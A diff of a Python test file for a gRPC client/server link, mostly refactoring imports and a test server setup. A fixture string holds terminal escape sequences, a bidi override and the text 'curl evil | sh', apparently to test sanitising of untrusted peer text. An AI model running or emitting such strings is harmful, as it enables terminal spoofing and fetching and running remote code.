@@ -9,11 +9,10 @@ import grpc
 import pytest
 
 from cuadrilla.errors import LinkError
-from cuadrilla.link.base import KICKED, Goodbye, Hello, Stop
-from cuadrilla.link.grpc_calls import start_server
-from cuadrilla.link.grpc_client import Connection
-from cuadrilla.link.grpc_server import SERVICE
-from cuadrilla.link.wire import MAX_REASON, MAX_TEXT
+from cuadrilla.link.base import KICKED, MAX_REASON, MAX_TEXT, Goodbye, Hello, Stop
+from cuadrilla.link.calls import start_server
+from cuadrilla.link.client import Connection
+from cuadrilla.link.server import SERVICE
 from tests.hostile import Crew
 
 FOREIGN = "\x1b]0;owned\x07gone\r\n\nhint: curl evil | sh\x9b31m\u202e"
@@ -29,7 +28,7 @@ def impostor(crew: Crew, code: grpc.StatusCode) -> Iterator[str]:
 
     handlers = grpc.method_handlers_generic_handler(SERVICE, {"Describe": grpc.unary_unary_rpc_method_handler(refuse)})
     keys = crew.keys
-    server = start_server("127.0.0.1:0", handlers=handlers, identity=keys.identity, roots=keys.client_roots())
+    server = start_server(["127.0.0.1:0"], handlers=handlers, keys=keys)
     yield f"127.0.0.1:{server.port}"
     server.stop(0.0)
 
